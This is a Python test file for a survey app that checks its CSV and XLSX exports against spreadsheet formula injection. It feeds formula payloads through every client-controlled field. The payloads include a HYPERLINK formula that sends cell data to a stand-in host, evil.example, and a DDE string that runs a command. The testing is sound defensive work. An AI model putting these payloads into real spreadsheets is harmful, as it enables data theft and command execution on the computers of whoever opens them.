"""Formula injection (issue 9, item 3): no cell of any spreadsheet export runs as a formula.

A survey whose title, labels and choice names carry formulas, and records with a formula in
every field a client controls (answers of each type, a geopoint's parts, the version, the
meta), are exported as CSV (codes and labels) and XLSX; every cell of every row is checked.
"""

from __future__ import annotations

import csv
import io
import re
import uuid
import zipfile

import openpyxl
import pytest
from support_coordinators import bearer, send

from survey_app.db import connect
from survey_app.exports.formulas import spreadsheet_safe
from survey_app.surveys.registry import publish

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PAYLOADS = [PAYLOAD, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", " =1+1", "\r=1", "＝1+1"]
URL = "/api/v1/surveys/inj/submissions.{}"

CHOICES = [{"name": p, "label": {"en": p}} for p in PAYLOADS] + [{"name": "plain", "label": "=label"}]


def definition() -> dict:
    return {
        "id": "inj",
        "version": "1",
        "title": {"en": PAYLOAD},
        "choice_lists": {"evil": CHOICES},
        "questions": [
            {"name": "t", "type": "text", "label": {"en": PAYLOAD}, "hint": {"en": PAYLOAD}},
            {"name": "s", "type": "select_one", "choices": "evil", "label": {"en": PAYLOAD}},
            {"name": "m", "type": "select_multiple", "choices": "evil", "label": {"en": PAYLOAD}},
            {"name": "g", "type": "geopoint", "label": {"en": PAYLOAD}},
            {"name": "n", "type": "integer", "label": {"en": PAYLOAD}},
            {"name": "r", "type": "repeat", "questions": [{"name": "rt", "type": "text"}]},
        ],
    }


def records() -> list[dict]:
    items = []
    for payload in PAYLOADS:
        data = {
            "t": payload,
            "s": payload,
            "m": [payload, "plain"],
            "g": {"lat": payload, "lon": payload, "alt": payload, "accuracy": payload},
            "n": payload,
            "r": [{"rt": payload}],
            payload: payload,  # an unknown key, kept with the record
        }
        meta = {k: payload for k in ("started_at", "finalized_at", "device_id", "app_version")}
        for version in ("1", payload[:64]):
            items.append(
                {"id": str(uuid.uuid4()), "survey": "inj", "version": version, "data": data, "meta": meta}
            )
    # A valid record too: real negative coordinates stay numbers.
    good = {"t": "fine", "s": "plain", "g": {"lat": -4.05, "lon": 39.66}, "n": -7}
    items.append({"id": str(uuid.uuid4()), "survey": "inj", "version": "1", "data": good, "meta": {}})
    return items


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet does with a CSV cell, judged independently of the exporter."""
    text = cell.lstrip(" \t\r\n")
    if not text or text[0] not in "=+-@＝＋－＠":
        return False
    return not re.fullmatch(r"[+-]?\d+(\.\d+)?", text)


@pytest.fixture
def exported(app, client, token_for):
    db = connect(app.config["DATABASE"])
    publish(db, definition(), source="test")
    db.close()
    results = send(client, token_for("facilitator"), records())
    assert all(r["status"] in ("stored", "quarantined") for r in results), results
    return bearer(token_for("coordinator"))


@pytest.mark.parametrize("query", ["", "?labels=1&lang=en"])
def test_no_csv_cell_runs_as_a_formula(client, exported, query):
    response = client.get(URL.format("csv") + query, headers=exported)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text)))
    assert len(rows) == 1 + 2 * len(PAYLOADS) + 1
    header = rows[0]
    for row in rows:
        assert len(row) == len(header)
        dangerous = [(header[i], cell) for i, cell in enumerate(row) if runs_as_formula(cell)]
        assert not dangerous, dangerous
    if query:  # label headers: the columns are those of the codes export, in the same order
        header = next(csv.reader(io.StringIO(client.get(URL.format("csv"), headers=exported).text)))
    columns = {name.lstrip("\ufeff"): i for i, name in enumerate(header)}
    good = rows[-1]
    assert good[columns["g/lat"]] == "-4.05" and good[columns["n"]] == "-7", "numbers stay numbers"
    quoted = rows[1]
    assert quoted[columns["t"]] == "'" + PAYLOAD, "the text is kept, only marked as text"


def test_xlsx_cells_are_text_never_formulas(client, exported):
    response = client.get(URL.format("xlsx") + "?labels=1&lang=en", headers=exported)
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert len(sheets) == 3  # submissions, the repeat, the codebook
        for name in sheets:
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
        assert b"<hyperlink" not in b"".join(archive.read(n) for n in sheets)
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                seen.add(cell.value)
    assert PAYLOAD in seen, "XLSX keeps the text exactly as sent (typed as text)"


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("-4.05", "-4.05"),
        ("+3", "+3"),
        ("-1_0", "'-1_0"),
        ("-inf", "'-inf"),
        ("\n@x", "'\n@x"),
        ("plain", "plain"),
        ("  spaced", "  spaced"),
        ("", ""),
    ],
)
def test_spreadsheet_safe(value, safe):
    assert spreadsheet_safe(value) == safe
